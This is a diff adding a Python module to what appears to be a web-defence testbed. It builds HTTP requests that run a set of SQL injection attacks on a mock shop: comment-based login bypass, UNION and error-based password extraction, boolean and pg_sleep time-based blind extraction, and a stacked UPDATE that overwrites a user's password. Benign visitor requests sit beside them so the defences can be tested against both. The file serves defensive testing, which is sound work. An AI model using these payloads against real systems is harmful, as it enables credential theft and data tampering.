@@ -1,0 +1,112 @@
+"""What the attacker on h1 sends, step by step, and what it reads out of the answers."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from urllib.parse import quote, urlencode
+
+from testbed.daemons.database_pages import DatabasePages
+
+ACCOUNTS = DatabasePages.accounts
+
+VICTIM = min(ACCOUNTS.values())
+"""The password that the attacker is after: the first in the order of the alphabet."""
+
+LETTERS = len(VICTIM) + 1
+"""That are asked for by time; one more than it has: the attacker learns where it ends."""
+
+FIRST_LETTERS = 3
+"""That are asked for bit by bit, which takes many questions; the others would follow."""
+
+BITS = 7
+UNIT_MS = 10
+"""By how much a letter's number delays an answer."""
+
+_HOST = "shop.example.org"
+
+
+def get(path: str, **query: str) -> str:
+    """A GET request."""
+    return f"GET {path}?{urlencode(query, quote_via=quote)} HTTP/1.1\r\nHost: {_HOST}\r\n\r\n"
+
+
+def post(path: str, **form: str) -> str:
+    """A POST request with a form."""
+    body = urlencode(form)
+    head = f"POST {path} HTTP/1.1\r\nHost: {_HOST}\r\nContent-Length: {len(body)}\r\n"
+    return f"{head}Content-Type: application/x-www-form-urlencoded\r\n\r\n{body}"
+
+
+def login(defence: str, user: str, password: str) -> str:
+    """An attempt to log in."""
+    return post(f"/{defence}/login", user=user, password=password)
+
+
+def item(defence: str, number: str) -> str:
+    """A question for an item."""
+    return get(f"/{defence}/item", number=number)
+
+
+def _union(defence: str) -> list[str]:
+    word = (
+        "zzz'/**/UNION/**/SELECT/**/name||':'||password,0/**/FROM/**/accounts/**/WHERE/**/name"
+        "/**/LIKE/**/'alice"
+    )
+    return [get(f"/{defence}/search", word=word)]
+
+
+def _write(defence: str) -> list[str]:
+    new = f"changed-{defence}"
+    letters = "||".join(f"chr({ord(letter)})" for letter in new)
+    change = f"1; UPDATE accounts SET password = {letters}"
+    old = ACCOUNTS["alice"]
+    return [item(defence, change), login(defence, "alice", new), login(defence, "alice", old)]
+
+
+def _bits(defence: str) -> list[str]:
+    """One question per bit of each letter."""
+    text = "1/**/AND/**/(SELECT ascii(substr(min(password),{},1))&{} FROM accounts)>0"
+    asked = [
+        text.format(place + 1, 1 << bit) for place in range(FIRST_LETTERS) for bit in range(BITS)
+    ]
+    return [item(defence, number) for number in asked]
+
+
+def _pauses(defence: str) -> list[str]:
+    """A question that waits for nothing, then one per letter that waits."""
+    text = (
+        "1/**/AND/**/1=(SELECT 1 FROM pg_sleep({}*"
+        "(SELECT ascii(substr(min(password),{},1)) FROM accounts)))"
+    )
+    asked = [text.format(UNIT_MS / 1000, place + 1) for place in range(LETTERS)]
+    return [item(defence, number) for number in (text.format(0, 1), *asked)]
+
+
+_OTHERS = "CAST((SELECT/**/min(password)/**/FROM/**/accounts)/**/AS/**/integer)"
+
+ATTACKS: dict[str, Callable[[str], list[str]]] = {
+    "comment": lambda to: [login(to, "alice' --", "x")],
+    "hidden-comment": lambda to: [login(to, "alice'/*", "*/AND/**/''='")],
+    "password": lambda to: [login(to, "alice", "'/**/OR/**/name='alice")],
+    "union": _union,
+    "number": lambda to: [item(to, "0/**/UNION/**/SELECT/**/min(password)/**/FROM/**/accounts")],
+    "error": lambda to: [item(to, f"0+{_OTHERS}")],
+    "truth": _bits,
+    "time": _pauses,
+    "write": _write,
+}
+"""Attack → the requests of its connection, for a defence."""
+
+HONEST: dict[str, Callable[[str], list[str]]] = {
+    "login": lambda to: [login(to, "bob", ACCOUNTS["bob"])],
+    "apostrophe": lambda to: [login(to, "o'brien", ACCOUNTS["o'brien"])],
+    "search": lambda to: [get(f"/{to}/search", word="kettle")],
+    "search-apostrophe": lambda to: [get(f"/{to}/search", word="baker's")],
+    "item": lambda to: [item(to, "2")],
+}
+"""The same for visitors who want nothing but to buy."""
+
+
+def step(defence: str, name: str) -> str:
+    """The step in which an attack or a visitor meets a defence."""
+    return f"{name}, {defence}"
